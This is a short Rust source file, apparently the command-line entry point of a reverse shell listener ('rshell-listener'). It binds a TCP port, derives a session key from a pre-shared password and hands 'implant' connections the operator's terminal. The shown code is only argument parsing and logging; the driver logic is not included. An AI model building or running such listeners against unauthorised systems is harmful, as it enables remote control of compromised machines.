//! CLI entry point for the reverse shell listener.

mod driver;
mod raw_mode;
mod resize_emitter;

use clap::Parser;

/// Bind a TCP endpoint and hand incoming implant connections the
/// operator's terminal.
#[derive(Parser)]
#[command(name = "rshell-listener", version)]
struct Args {
    /// Pre-shared password used to derive the session key.
    #[arg(short, long)]
    password: String,

    /// Address to bind.
    #[arg(short, long, default_value = "0.0.0.0:5143")]
    bind: String,

    /// Enable debug-level logging.
    #[arg(short, long)]
    verbose: bool,
}

#[tokio::main]
async fn main() {
    let args = Args::parse();
    init_logger(args.verbose);
    if let Err(e) = driver::run(&args.bind, &args.password).await {
        eprintln!("✗ {e}");
        std::process::exit(1);
    }
}

fn init_logger(verbose: bool) {
    if std::env::var("RUST_LOG").is_err() {
        std::env::set_var("RUST_LOG", if verbose { "debug" } else { "info" });
    }
    env_logger::init();
}
